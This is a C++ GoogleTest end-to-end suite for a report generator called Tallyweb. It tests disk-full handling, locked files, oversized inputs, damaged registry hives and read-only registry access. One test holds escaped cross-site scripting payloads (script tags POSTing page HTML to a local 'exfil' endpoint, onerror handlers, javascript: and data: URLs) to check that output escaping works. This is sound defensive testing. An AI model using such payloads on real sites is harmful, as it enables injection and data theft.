// Faults and hostile input, end to end: a disk that fills while the report is
// written, a template another program holds open for writing, inputs far
// larger than any real list, odd bytes in values, damaged hives for the
// native build, and a check that no run ever writes to the registry.
#include <fcntl.h>
#include <signal.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <functional>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "gtest/gtest.h"
#include "harness.h"

namespace tallyweb::e2e {
namespace {

namespace fs = std::filesystem;

const char* ProgramName(Build build) {
  return build == Build::kWindows ? "Tallyweb.exe" : "Tallyweb";
}

// Compares reports of any size without printing megabytes: the sizes, and
// the first byte where they part.
::testing::AssertionResult SameBytes(const std::string& want, const std::string& got) {
  if (want == got) return ::testing::AssertionSuccess();
  std::size_t at = 0;
  while (at < want.size() && at < got.size() && want[at] == got[at]) ++at;
  return ::testing::AssertionFailure()
         << "want " << want.size() << " bytes, got " << got.size() << "; first difference at " << at
         << ": want \"" << want.substr(at, 40) << "\", got \"" << got.substr(at, 40) << "\"";
}

// The native build tells a failure on standard error, the box's title and
// text among its lines.
::testing::AssertionResult NativeFailure(const std::string& stderr_text, const std::string& kind,
                                         const std::string& message) {
  const std::size_t at = stderr_text.find("Exception ");
  if (at == std::string::npos)
    return ::testing::AssertionFailure() << "no failure text in:\n" << stderr_text;
  std::string text = stderr_text.substr(at);
  const std::size_t second = text.find('\n');
  const std::size_t end = second == std::string::npos ? second : text.find('\n', second + 1);
  return IsFailureText(text.substr(0, end), kind, "Tallyweb", message);
}

// --- A disk that fills up ---------------------------------------------------

constexpr std::size_t kPage = 4096;
std::size_t Pages(std::size_t bytes) { return (bytes + kPage - 1) / kPage * kPage; }

// A tmpfs of a fixed size mounted over a folder for the object's life.
class SmallDisk {
 public:
  SmallDisk(const std::string& folder, std::size_t bytes) : folder_(folder) {
    const std::string options = "size=" + std::to_string(bytes / 1024) + "k,mode=0755";
    mounted_ = mount("tmpfs", folder.c_str(), "tmpfs", 0, options.c_str()) == 0;
  }
  ~SmallDisk() {
    if (mounted_) umount2(folder_.c_str(), MNT_DETACH);
  }
  SmallDisk(const SmallDisk&) = delete;
  SmallDisk& operator=(const SmallDisk&) = delete;
  bool mounted() const { return mounted_; }

 private:
  std::string folder_;
  bool mounted_;
};

// The disk fills while the report is written: the run ends at that line's
// check with the system's code, and the file keeps exactly the 128-byte
// blocks that were handed over before it, never part of one. Under Wine the
// code is ERROR_DISK_FULL (112); the native build passes ENOSPC (28) on.
TEST(Hostile, DiskFullWhileWritingKeepsOnlyWholeBlocks) {
  if (geteuid() != 0) GTEST_SKIP() << "mounting the small disk needs root";
  SetHtmHandler(true);
  PlantDownloadList({});
  // A 300 KB head, where the disk leaves room for 64 KB of report.
  std::string head;
  for (int i = 0; i < 3000; ++i) head += std::to_string(100000 + i) + std::string(92, 'h') + "\r\n";
  const std::string template_bytes = head + "{\r\n}\r\n";

  struct {
    Build build;
    const char* message;
  } cases[] = {{Build::kWindows, "I/O error 112."}, {Build::kNative, "I/O error 28."}};
  for (const auto& c : cases) {
    SCOPED_TRACE(BuildName(c.build));
    ProgramFolder folder(c.build);
    const std::string program = folder.ReadFile(ProgramName(c.build));
    ASSERT_FALSE(program.empty());
    RunOutcome run;
    {
      SmallDisk disk(folder.path(),
                     Pages(program.size()) + Pages(template_bytes.size()) + 16 * kPage);
      ASSERT_TRUE(disk.mounted()) << "cannot mount a tmpfs on " << folder.path();
      folder.WriteFile(ProgramName(c.build), program);
      fs::permissions(folder.path() + "/" + ProgramName(c.build), fs::perms::owner_all);
      folder.WriteTemplate(template_bytes);
      run = folder.Run();
    }

    EXPECT_EQ(1, run.exit_code) << run.stderr_text;
    if (c.build == Build::kWindows) {
      ASSERT_EQ(1u, run.boxes.size()) << run.stderr_text;
      EXPECT_TRUE(IsFailureText(run.boxes[0].text, "EInOutError", "Tallyweb\\.exe", c.message));
    } else {
      EXPECT_TRUE(NativeFailure(run.stderr_text, "EInOutError", c.message));
    }
    ASSERT_TRUE(run.report_exists);
    EXPECT_GT(run.report.size(), 0u);
    EXPECT_LT(run.report.size(), head.size());
    EXPECT_EQ(0u, run.report.size() % 128) << run.report.size() << " bytes";
    EXPECT_TRUE(SameBytes(head.substr(0, run.report.size()), run.report));
    EXPECT_FALSE(run.shell.asked);
  }
}

// --- A template another program holds open ----------------------------------

// Another program has the template open for writing (an editor saving it):
// the loader shares reading only, so the open is refused, exactly as for a
// missing template. The native build has no such sharing rules to test.
TEST(Hostile, TemplateHeldOpenForWritingCannotBeOpened) {
  SetHtmHandler(true);
  PlantDownloadList({{"X", {Dword("Item_Size", 1)}}});
  ProgramFolder folder(Build::kWindows);
  const std::string template_bytes = "A\r\n{\r\n&Name\r\n}\r\n";
  folder.WriteTemplate(template_bytes);

  RunOutcome run;
  {
    FileHolder holder(folder, "template.txt");
    ASSERT_TRUE(holder.holding()) << "file_holder.exe did not start";
    run = folder.Run();
    EXPECT_EQ(0, holder.Release());
  }

  EXPECT_EQ(1, run.exit_code) << run.stderr_text;
  ASSERT_EQ(1u, run.boxes.size()) << run.stderr_text;
  EXPECT_TRUE(IsFailureText(run.boxes[0].text, "EFOpenError", "Tallyweb\\.exe",
                            "Cannot open file " + folder.ProgramDirectory() + "template.txt."));
  EXPECT_FALSE(run.report_exists);
  EXPECT_FALSE(run.shell.asked);
  EXPECT_EQ(template_bytes, folder.ReadFile("template.txt"));
}

// --- Inputs far past any real list -----------------------------------------

struct BigCase {
  std::string name;
  std::vector<DownloadKey> list;
  std::string template_bytes;
  std::string want;         // under Wine, in the ANSI code page
  std::string want_native;  // natively, in UTF-8; empty: the same as want
};

std::string Repeat(const std::string& line, int count) {
  std::string text;
  text.reserve(line.size() * count);
  for (int i = 0; i < count; ++i) text += line;
  return text;
}

BigCase HugeTemplate() {
  // 100 MB: 50 000 LF-ended head lines and 50 000 CR-ended tail lines of
  // 1000 bytes around a one-line block; every line end becomes CR LF.
  const std::string head_line(999, 'h'), tail_line(999, 't');
  return {"100 MB template",
          {{"X", {Dword("Item_Size", 7)}}},
          Repeat(head_line + "\n", 50000) + "{\n&Name &Size\n}\n" + Repeat(tail_line + "\r", 50000),
          Repeat(head_line + "\r\n", 50000) + "X 7\r\n" + Repeat(tail_line + "\r\n", 50000),
          ""};
}

BigCase LongTemplateLine() {
  const std::string a(49990, 'a'), b(49990, 'b');
  return {"100 000-byte template line",
          {{"X", {Text("Item_MainURL", "http://h/x"), Dword("Item_Size", 0xFFFFFFFE)}}},
          "{\r\n&Name" + a + "&URL" + b + "&Size\r\n}\r\n",
          "X" + a + "http://h/x" + b + "-2\r\n",
          ""};
}

BigCase MegabyteUrl() {
  // Inserted once: the "&Size" inside it is not a placeholder, only escaped.
  const std::string url = "http://h/?" + std::string(1 << 20, 'u') + "&Size=2";
  const std::string escaped = "http://h/?" + std::string(1 << 20, 'u') + "&amp;Size=2";
  return {"1 MB URL",
          {{"X", {Text("Item_MainURL", url), Dword("Item_Size", 1)}}},
          "{\r\n&URL|&Size|&URL\r\n}\r\n",
          escaped + "|1|" + escaped + "\r\n",
          ""};
}

// Numbered names of `length` characters, so that Wine's sorted enumeration
// gives them in the order they were made.
BigCase ManyLongKeyNames(int count, int length) {
  BigCase c{
      std::to_string(count) + " downloads with " + std::to_string(length) + "-character key names",
      {},
      "{\r\n&Name &Size\r\n}\r\n",
      "",
      ""};
  for (int i = 0; i < count; ++i) {
    char number[16];
    std::snprintf(number, sizeof number, "%05d", i);
    const std::string name = number + std::string(length - 5, 'k');
    c.list.push_back({name, {Dword("Item_Size", static_cast<std::uint32_t>(i))}});
    c.want += name + " " + std::to_string(i) + "\r\n";
  }
  return c;
}

// The test prefix's ANSI code page is 1252: the bytes 0x80-0x9F are these
// characters (five of them unassigned, which Wine keeps as the C1 controls).
const char16_t kCp1252High[32] = {0x20AC, 0x0081, 0x201A, 0x0192, 0x201E, 0x2026, 0x2020, 0x2021,
                                  0x02C6, 0x2030, 0x0160, 0x2039, 0x0152, 0x008D, 0x017D, 0x008F,
                                  0x0090, 0x2018, 0x2019, 0x201C, 0x201D, 0x2022, 0x2013, 0x2014,
                                  0x02DC, 0x2122, 0x0161, 0x203A, 0x0153, 0x009D, 0x017E, 0x0178};

std::string Cp1252ToUtf8(const std::string& bytes) {
  std::string out;
  for (unsigned char b : bytes) {
    const unsigned code = b >= 0x80 && b < 0xA0 ? kCp1252High[b - 0x80] : b;
    if (code < 0x80) {
      out += static_cast<char>(code);
    } else if (code < 0x800) {
      out += static_cast<char>(0xC0 | code >> 6);
      out += static_cast<char>(0x80 | (code & 0x3F));
    } else {
      out += static_cast<char>(0xE0 | code >> 12);
      out += static_cast<char>(0x80 | ((code >> 6) & 0x3F));
      out += static_cast<char>(0x80 | (code & 0x3F));
    }
  }
  return out;
}

// The bytes 0x80-0xFF as the report holds them in code page 1252: the five
// C1 controls, for which no reference stands, as the replacement character.
std::string Cp1252HighInReport(const std::string& bytes) {
  std::string out;
  for (unsigned char b : bytes) {
    const bool c1 = b >= 0x80 && b < 0xA0 && kCp1252High[b - 0x80] < 0xA0;
    out += c1 ? std::string("&#65533;") : std::string(1, static_cast<char>(b));
  }
  return out;
}

BigCase HighBytesAndNuls() {
  std::string high;
  for (int b = 0x80; b <= 0xFF; ++b) high += static_cast<char>(b);
  // The C1 controls come out as U+FFFD; the soft hyphen, 0xAD, shows as
  // nothing, so it comes out as a visible token: in code page 1252 its angle
  // brackets as references.
  std::string windows = Cp1252HighInReport(high), native = Cp1252ToUtf8(windows);
  windows.replace(windows.find('\xAD'), 1, "&#10216;U+00AD&#10217;");
  native.replace(native.find("\xC2\xAD"), 2, "\xE2\x9F\xA8U+00AD\xE2\x9F\xA9");
  // Strings end at their first NUL, whatever follows it.
  return {
      "bytes 0x80-0xFF and NUL in values",
      {{"X",
        {Hex("Item_MainURL", 1, high + std::string("\0after\0", 7)),
         Hex("Item_Description", 2, std::string("d\x01\x7f\0x\0", 6)),
         Hex("Item_OutputFilename", 1, std::string("\0C:\\hidden\\", 11)), Dword("Item_Size", 3)}}},
      "{\r\n[&URL][&Discr][&Out][&DOut]\r\n}\r\n",
      "[" + windows + "][d\x01\x7f][][file://]\r\n",
      "[" + native + "][d\x01\x7f][][file://]\r\n"};
}

void ExpectWholeRun(const BigCase& c, Build build) {
  SCOPED_TRACE(BuildName(build));
  ProgramFolder folder(build);
  folder.WriteTemplate(c.template_bytes);

  const RunOutcome run = folder.Run();

  EXPECT_EQ(0, run.exit_code) << run.stderr_text.substr(0, 2000);
  EXPECT_FALSE(run.timed_out);
  EXPECT_TRUE(run.boxes.empty());
  const std::string& want = build == Build::kNative && !c.want_native.empty() ? c.want_native
                                                                              : c.want;
  EXPECT_TRUE(SameBytes(want, run.report));
  EXPECT_TRUE(run.shell.asked);
}

TEST(Hostile, InputsFarPastAnyRealListComeOutWhole) {
  SetHtmHandler(true);
  // Ten thousand names of 225 characters, each item path within the 260
  // characters of the ANSI open; the registry's full 255 come below.
  const BigCase cases[] = {HugeTemplate(), LongTemplateLine(), MegabyteUrl(),
                           ManyLongKeyNames(10000, 225), HighBytesAndNuls()};
  for (const BigCase& c : cases) {
    SCOPED_TRACE(c.name);
    PlantDownloadList(c.list);
    for (Build build : {Build::kWindows, Build::kNative}) ExpectWholeRun(c, build);
  }
}

// The list of downloads whose values attack the report page, which the
// browser test opens too: each value, whatever it holds, comes out as text,
// the five bytes HTML gives a meaning escaped, so nothing in it can become
// markup; the folder links escape "%" and "#" first.
std::vector<DownloadKey> ReadDownloadList(const std::string& reg_path) {
  const std::string key_prefix = "[HKEY_LOCAL_MACHINE\\Software\\Tesmora\\Orvalink\\FileList\\";
  std::vector<DownloadKey> keys;
  std::istringstream in(ReadWhole(reg_path));
  for (std::string line; std::getline(in, line);) {
    if (!line.empty() && line.back() == '\r') line.pop_back();
    if (line.rfind(key_prefix, 0) == 0 && line.back() == ']') {
      keys.push_back({line.substr(key_prefix.size(), line.size() - key_prefix.size() - 1), {}});
    } else if (!keys.empty() && line.rfind("\"", 0) == 0) {
      keys.back().values.push_back(line);
    }
  }
  return keys;
}

TEST(Hostile, ValuesAimedAtThePageComeOutAsText) {
  SetHtmHandler(true);
  const BigCase c = {
      "hostile list", ReadDownloadList(TALLYWEB_HOSTILE_LIST),
      "{\r\n&Name|&URL|&Out|&DOut|&Size|&Discr\r\n}\r\n",
      R"(01 script|https://example.org/a.zip|C:\Downloads\a.zip|file://C:\Downloads\|1024|)"
      R"(&lt;script&gt;addEventListener(&#39;load&#39;,function(){fetch(&#39;http://127.0.0.1:8765/)"
      R"(exfil&#39;,{method:&#39;POST&#39;,mode:&#39;no-cors&#39;,body:document.documentElement.)"
      R"(outerHTML})})&lt;/script&gt;)"
      "\r\n"
      R"(02 &lt;svg onload=fetch(&#39;http://127.0.0.1:8765/svg&#39;)&gt;|https://example.org/b.zip|)"
      R"(C:\Downloads\b.zip|file://C:\Downloads\|1|&lt;img src=http://127.0.0.1:8765/img )"
      R"(onerror=fetch(&#39;http://127.0.0.1:8765/onerror&#39;)&gt;)"
      "\r\n"
      R"(03 quotes|https://example.org/&quot; autofocus onfocus=&quot;fetch(&#39;)"
      R"(http://127.0.0.1:8765/focus&#39;)|)"
      R"(C:\&quot;&gt;&lt;script src=http://127.0.0.1:8765/dir.js&gt;&lt;/script&gt;\&quot;&gt;)"
      R"(&lt;script src=http://127.0.0.1:8765/out.js&gt;&lt;/script&gt;.zip|)"
      // The folder ends at the last backslash or colon, here the port's.
      R"(file://C:\&quot;&gt;&lt;script src=http://127.0.0.1:8765/dir.js&gt;&lt;/script&gt;\)"
      R"(&quot;&gt;&lt;script src=http://127.0.0.1:|-1|)"
      R"(&lt;meta http-equiv=&quot;refresh&quot; content=&quot;0;url=http://127.0.0.1:8765/)"
      R"(refresh&quot;&gt;)"
      "\r\n"
      R"(04 comment|https://example.org/?a=1&amp;b=2&amp;lt;&amp;#39;|C:\Downloads\notes.txt|)"
      R"(file://C:\Downloads\|2|Release notes &lt;!--)"
      "\r\n"
      R"(05 javascript|javascript:fetch(&#39;http://127.0.0.1:8765/javascript&#39;)|)"
      R"(C:\Music\Mix #3\track.mp3|file://C:\Music\Mix %233\|3|)"
      R"(&lt;base href=&quot;http://127.0.0.1:8765/&quot;&gt;&lt;link rel=stylesheet )"
      R"(href=&quot;http://127.0.0.1:8765/css&quot;&gt;&lt;style&gt;@import )"
      R"(&#39;http://127.0.0.1:8765/import&#39;;&lt;/style&gt;)"
      "\r\n"
      R"(06 data|data:text/html,&lt;script&gt;fetch(&#39;http://127.0.0.1:8765/data&#39;))"
      R"(&lt;/script&gt;|D:\Backup\100%\it&#39;s &amp; more.zip|file://D:\Backup\100%25\|4|)"
      R"(&lt;/td&gt;&lt;/tr&gt;&lt;/tbody&gt;&lt;/table&gt;&lt;form )"
      R"(action=http://127.0.0.1:8765/form&gt;&lt;button autofocus&gt;Send&lt;/button&gt;)"
      R"(&lt;/form&gt;)"
      "\r\n"
      R"(07 spaced scheme| JavaScript:fetch(&#39;http://127.0.0.1:8765/spaced&#39;)|)"
      R"(E:\%23\x.bin|file://E:\%2523\|5|last row)"
      "\r\n",
      ""};
  ASSERT_EQ(7u, c.list.size());
  PlantDownloadList(c.list);
  ExpectWholeRun(c, Build::kWindows);
  // Natively a folder on a drive the prefix maps (C:) is linked as the Linux
  // folder, percent-encoded; D: and E: are not mapped and keep their form.
  BigCase native = c;
  const std::string drive_c = "file://" +
                              fs::canonical(std::string(TALLYWEB_E2E_PREFIX) + "/drive_c").string();
  const std::pair<std::string, std::string> links[] = {
      {R"(file://C:\Downloads\)", drive_c + "/Downloads/"},
      {R"(file://C:\&quot;&gt;&lt;script src=http://127.0.0.1:8765/dir.js&gt;&lt;/script&gt;\)"
       R"(&quot;&gt;&lt;script src=http://127.0.0.1:)",
       drive_c + "/%22%3E%3Cscript%20src%3Dhttp%3A//127.0.0.1%3A8765/dir.js%3E%3C/script%3E/"
                 "%22%3E%3Cscript%20src%3Dhttp%3A//127.0.0.1%3A/"},
      {R"(file://C:\Music\Mix %233\)", drive_c + "/Music/Mix%20%233/"},
  };
  native.want = c.want;
  for (const auto& link : links) {
    for (std::size_t at = native.want.find(link.first); at != std::string::npos;
         at = native.want.find(link.first, at + link.second.size())) {
      native.want.replace(at, link.first.size(), link.second);
    }
  }
  ExpectWholeRun(native, Build::kNative);
}

// Key names of 255 characters, the registry's own limit. With the list key's
// path before them, the items' absolute paths pass the 260 characters that
// RegOpenKeyExA takes; the Windows store opens those through the wide call.
TEST(Hostile, KeyNamesOfTheRegistrysFullLengthNatively) {
  SetHtmHandler(true);
  const BigCase c = ManyLongKeyNames(10000, 255);
  PlantDownloadList(c.list);
  ExpectWholeRun(c, Build::kNative);
}

TEST(Hostile, KeyNamesOfTheRegistrysFullLengthUnderWine) {
  SetHtmHandler(true);
  const BigCase c = ManyLongKeyNames(3, 255);
  PlantDownloadList(c.list);
  ExpectWholeRun(c, Build::kWindows);
}

// --- Damaged hives, natively --------------------------------------------------

struct NativeRun {
  int exit_code = -1;  // -1: killed by a signal, or hung and killed after a minute
  std::string report;
  std::string out;  // standard output and error
};

struct NativeOptions {
  std::vector<std::string> args;
  bool stderr_closed = false;  // run as with 2>&-
  bool stdout_full = false;    // run as with >/dev/full
  bool no_prefix = false;      // neither WINEPREFIX nor HOME set
  // Called with the running program's pid, say to change its files under it.
  std::function<void(pid_t)> while_running;
};

// The native program in `folder`, reading HKEY_LOCAL_MACHINE from `prefix`.
// Its open request goes to an xdg-open that does nothing.
NativeRun RunNativeOn(const ProgramFolder& folder, const std::string& prefix,
                      const NativeOptions& options = NativeOptions()) {
  const std::string bin = folder.path() + "/bin";
  fs::create_directories(bin);
  folder.WriteFile("bin/xdg-open", "#!/bin/sh\nexit 0\n");
  fs::permissions(bin + "/xdg-open", fs::perms::owner_all);
  const std::string path_env = "PATH=" + bin + ":/usr/bin:/bin";
  const std::string prefix_env = "WINEPREFIX=" + prefix;
  const std::string program = folder.path() + "/Tallyweb";
  const std::string out_path = folder.path() + "/out.txt";

  const pid_t child = fork();
  if (child == 0) {
    const int null_fd = open("/dev/null", O_RDWR);
    const int out_fd = open(out_path.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0644);
    dup2(null_fd, 0);
    dup2(out_fd, 1);
    dup2(out_fd, 2);
    if (options.stderr_closed) close(2);
    if (options.stdout_full) {
      const int full_fd = open("/dev/full", O_WRONLY);
      dup2(full_fd, 1);
      close(full_fd);
    }
    close(null_fd);
    close(out_fd);
    std::vector<char*> argv = {const_cast<char*>(program.c_str())};
    for (const std::string& arg : options.args) argv.push_back(const_cast<char*>(arg.c_str()));
    argv.push_back(nullptr);
    char* const envp[] = {const_cast<char*>(path_env.c_str()),
                          options.no_prefix ? nullptr : const_cast<char*>(prefix_env.c_str()),
                          nullptr};
    execve(program.c_str(), argv.data(), envp);
    _exit(127);
  }
  if (options.while_running) options.while_running(child);
  NativeRun run;
  int status = 0;
  for (int waited = 0; waited < 60000; waited += 20) {
    if (waitpid(child, &status, WNOHANG) == child) {
      run.exit_code = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
      break;
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(20));
  }
  if (run.exit_code == -1 && waitpid(child, &status, WNOHANG) == 0) {
    kill(child, SIGKILL);
    waitpid(child, &status, 0);
  }
  // Never open a FIFO left there: reading it would wait for a writer.
  if (fs::is_regular_file(folder.path() + "/Tallyweb.htm"))
    run.report = folder.ReadFile("Tallyweb.htm");
  run.out = ReadWhole(out_path);
  return run;
}

// A hive that is cut short, binary, empty or not a file at all is read as
// Wine reads it: without the list, the report says the list is not found and
// the run ends normally; damage elsewhere costs only the lines it hits. The
// real hive holds the list, so a truncated copy of it shows that the damage,
// not the content, decides.
TEST(Hostile, DamagedHiveReadsAsNoListNatively) {
  PlantDownloadList({{"X", {Dword("Item_Size", 1)}}});
  // A real hive, current: the native harness run writes it to disk first.
  {
    ProgramFolder folder(Build::kNative);
    folder.WriteTemplate("{\r\n&Name\r\n}\r\n");
    ASSERT_EQ("X\r\n", folder.Run().report);
  }
  const std::string hive = ReadWhole(std::string(TALLYWEB_E2E_PREFIX) + "/system.reg");
  ASSERT_NE(std::string::npos, hive.find("Orvalink\\\\FileList\\\\X]"));
  std::string binary;
  for (int i = 0; i < 65536; ++i) binary += static_cast<char>((i * 7919 + 13) % 256);

  struct {
    const char* name;
    std::string bytes;
    bool folder_instead;
    bool fifo_instead = false;
    std::string want = kNotFound;
  } cases[] = {
      {"cut in the list's key line", hive.substr(0, hive.find("Orvalink\\\\FileList\\\\X]") + 20),
       false},
      {"NUL inside", hive.substr(0, 200) + std::string(1, '\0') + hive.substr(200), false, false,
       "X\r\n"},
      {"binary", binary, false},
      {"empty", "", false},
      {"a folder", "", true},
      {"a FIFO", "", false, true},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.name);
    ProgramFolder folder(Build::kNative);
    folder.WriteTemplate("head\r\n{\r\n&Name\r\n}\r\n");
    const std::string prefix = folder.path() + "/prefix";
    fs::create_directories(prefix);
    if (c.folder_instead) {
      fs::create_directories(prefix + "/system.reg");
    } else if (c.fifo_instead) {
      ASSERT_EQ(0, mkfifo((prefix + "/system.reg").c_str(), 0644));
    } else {
      folder.WriteFile("prefix/system.reg", c.bytes);
    }

    const NativeRun run = RunNativeOn(folder, prefix);

    EXPECT_EQ(0, run.exit_code);
    EXPECT_EQ(std::string("head\r\n") + c.want, run.report);
  }
}

// A hive cut short or rewritten in place while the program reads it (an
// editor saving it in place; the wine server saving a hive that is a link)
// must not stop the writer: nothing waits for the run. The run then reads
// the file as it was when it opened it, or it stops with a failure that says
// why; never a signal, and never a download of the new file in a report of
// the old one: what the report holds is the old report's beginning.
TEST(Hostile, HiveChangedWhileReadIsReadAsItWasOrStopsNatively) {
  auto hive_with = [](char description) {
    std::string hive = "WINE REGISTRY Version 2\n\n#arch=win64\n\n";
    for (int i = 0; i < 100000; ++i) {
      hive += "[Software\\\\Wow6432Node\\\\Tesmora\\\\Orvalink\\\\FileList\\\\" +
              std::to_string(1000000 + i) + "] 1700000000\n\"Item_Size\"=dword:1\n" +
              "\"Item_Description\"=\"" + std::string(200, description) + "\"\n\n";
    }
    return hive;
  };
  const std::string old_hive = hive_with('d');
  const std::string new_hive = hive_with('e');
  std::string want = "head\r\n";
  for (int i = 0; i < 100000; ++i) {
    want += std::to_string(1000000 + i) + " " + std::string(200, 'd') + "\r\n";
  }
  struct {
    const char* name;
    std::function<void(const std::string& path)> change;
  } cases[] = {
      {"cut to 4 KiB", [](const std::string& path) { ASSERT_EQ(0, truncate(path.c_str(), 4096)); }},
      {"rewritten in place",
       [&](const std::string& path) {
         const int fd = open(path.c_str(), O_WRONLY);
         ASSERT_NE(-1, fd);
         ASSERT_EQ(static_cast<ssize_t>(new_hive.size()),
                   pwrite(fd, new_hive.data(), new_hive.size(), 0));
         close(fd);
       }},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.name);
    ProgramFolder folder(Build::kNative);
    folder.WriteTemplate("head\r\n{\r\n&Name &Discr\r\n}\r\n");
    const std::string prefix = folder.path() + "/prefix";
    fs::create_directories(prefix);
    folder.WriteFile("prefix/system.reg", old_hive);
    NativeOptions options;
    options.while_running = [&](pid_t) {
      // Once the list is read and the report begun, change the hive. (A hive
      // changed while it is indexed is indexed again: the run then reads the
      // new file, whole.)
      const std::string report = folder.path() + "/Tallyweb.htm";
      for (int i = 0; i < 5000 && !fs::exists(report); ++i) {
        std::this_thread::sleep_for(std::chrono::microseconds(200));
      }
      ASSERT_TRUE(fs::exists(report)) << "no report begun";
      c.change(prefix + "/system.reg");
    };

    const NativeRun run = RunNativeOn(folder, prefix, options);

    if (run.exit_code == 0) {
      EXPECT_TRUE(run.report == want) << run.report.size() << " bytes, not " << want.size();
    } else {
      EXPECT_EQ(1, run.exit_code) << run.out;
      EXPECT_NE(std::string::npos, run.out.find("system.reg changed while it was read")) << run.out;
      EXPECT_TRUE(want.compare(0, run.report.size(), run.report) == 0)
          << "the report is not the old report's beginning";
      EXPECT_EQ(std::string::npos, run.report.find("eeee"));
    }
  }
}

// The native program as a Linux program: --help and --version answer and
// do nothing else, and fail when the answer cannot be written; a template or
// report that is a FIFO fails at once with the usual text; with standard
// error closed, failure text never lands in the report; without a prefix to
// read, standard error says so; and the folder link names the folder the
// prefix maps C: to.
TEST(Hostile, NativeProgramBehavesAsALinuxProgram) {
  struct {
    const char* name;
    std::vector<std::string> args;
    const char* fifo;  // a FIFO in the program folder instead of this file
    bool stderr_closed;
    int exit_code;
    const char* out;     // in standard output and error
    const char* report;  // in the report; nullptr: no report written
    bool stdout_full = false;
    bool no_prefix = false;
  } cases[] = {
      {"--help, output full", {"--help"}, nullptr, false, 1, "", nullptr, true},
      {"--version, output full", {"--version"}, nullptr, false, 1, "", nullptr, true},
      {"no prefix",
       {},
       nullptr,
       false,
       0,
       "neither WINEPREFIX nor HOME",
       "is not found",
       false,
       true},
      {"--help", {"--help"}, nullptr, false, 0, "Usage: Tallyweb", nullptr},
      {"--version", {"x", "--version"}, nullptr, false, 0, "Tallyweb 1.0", nullptr},
      {"other arguments ignored", {"-x", "C:\\"}, nullptr, false, 0, "", "file:///"},
      {"template a FIFO", {}, "template.txt", false, 1, "Cannot open file", nullptr},
      {"report a FIFO", {}, "Tallyweb.htm", false, 1, "File access denied.", nullptr},
      {"standard error closed", {}, nullptr, true, 1, "", ""},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.name);
    ProgramFolder folder(Build::kNative);
    folder.WriteTemplate("head\r\n{\r\n<a href=\"&DOut\">&Name</a>\r\n}\r\n");
    const std::string prefix = folder.path() + "/prefix";
    fs::create_directories(prefix + "/dosdevices");
    fs::create_directories(prefix + "/drive_c/Users/Me/My Files");
    fs::create_directory_symlink("../drive_c", prefix + "/dosdevices/c:");
    // A run that fails unless descriptors are closed: no Item_Size.
    const std::string size = c.stderr_closed ? "" : "\"Item_Size\"=dword:1\n";
    folder.WriteFile("prefix/system.reg",
                     "WINE REGISTRY Version 2\n\n#arch=win64\n\n"
                     "[Software\\\\Wow6432Node\\\\Tesmora\\\\Orvalink\\\\FileList\\\\d1] 1\n" +
                         size +
                         "\"Item_OutputFilename\"=\"C:\\\\users\\\\me\\\\my files\\\\a.zip\"\n");
    if (c.fifo != nullptr) {
      const std::string fifo = folder.path() + "/" + c.fifo;
      fs::remove(fifo);
      ASSERT_EQ(0, mkfifo(fifo.c_str(), 0644));
    }
    NativeOptions options;
    options.args = c.args;
    options.stderr_closed = c.stderr_closed;
    options.stdout_full = c.stdout_full;
    options.no_prefix = c.no_prefix;

    const NativeRun run = RunNativeOn(folder, prefix, options);

    EXPECT_EQ(c.exit_code, run.exit_code);
    EXPECT_NE(std::string::npos, run.out.find(c.out)) << run.out;
    if (c.report == nullptr) {
      if (c.fifo == nullptr || std::string(c.fifo) != "Tallyweb.htm") {
        EXPECT_FALSE(fs::exists(folder.path() + "/Tallyweb.htm"));
      }
      continue;
    }
    EXPECT_NE(std::string::npos, run.report.find(c.report)) << run.report;
    EXPECT_EQ(std::string::npos, run.report.find("Application Error")) << run.report;
    if (std::string(c.report) == "file:///") {
      const std::string drive = fs::canonical(prefix + "/drive_c").string();
      EXPECT_NE(std::string::npos,
                run.report.find("href=\"file://" + drive + "/Users/Me/My%20Files/\""))
          << run.report;
    }
  }
}

// --- The registry stays as it was ------------------------------------------

// Tallyweb only reads: the 32-bit view of HKLM\Software, where the list lies,
// exports the same before and after runs of both builds, whole or failed.
TEST(Hostile, RunsNeverWriteToTheRegistry) {
  SetHtmHandler(true);
  const std::string work = TALLYWEB_E2E_WORK;
  int exports = 0;
  auto Export = [&] {
    const std::string file = work + "/export." + std::to_string(getpid()) + "." +
                             std::to_string(exports++) + ".reg";
    std::string windows_name = "Z:" + file;
    for (char& ch : windows_name)
      if (ch == '/') ch = '\\';
    EXPECT_EQ(0, Wine({"reg", "export", "HKLM\\Software", windows_name, "/y", "/reg:32"}));
    const std::string bytes = ReadWhole(file);
    std::remove(file.c_str());
    return bytes;
  };
  const DownloadKey good = {"a", {Text("Item_MainURL", "u"), Dword("Item_Size", 1)}};
  const DownloadKey no_size = {"b", {Text("Item_MainURL", "no size")}};

  struct {
    const char* name;
    std::vector<DownloadKey> list;
    int exit_code;
  } cases[] = {
      {"whole run", {good}, 0},
      {"run ending at the second item", {good, no_size}, 1},
  };
  for (const auto& c : cases) {
    PlantDownloadList(c.list);
    const std::string before = Export();
    // reg export writes UTF-16.
    ASSERT_NE(std::string::npos, before.find(std::string("F\0i\0l\0e\0L\0i\0s\0t\0", 16)))
        << "export without the list";
    for (Build build : {Build::kWindows, Build::kNative}) {
      SCOPED_TRACE(std::string(c.name) + ", " + BuildName(build));
      ProgramFolder folder(build);
      folder.WriteTemplate("{\r\n&URL\r\n}\r\n");
      EXPECT_EQ(c.exit_code, folder.Run().exit_code);
      EXPECT_TRUE(SameBytes(before, Export()));
    }
  }
}

}  // namespace
}  // namespace tallyweb::e2e
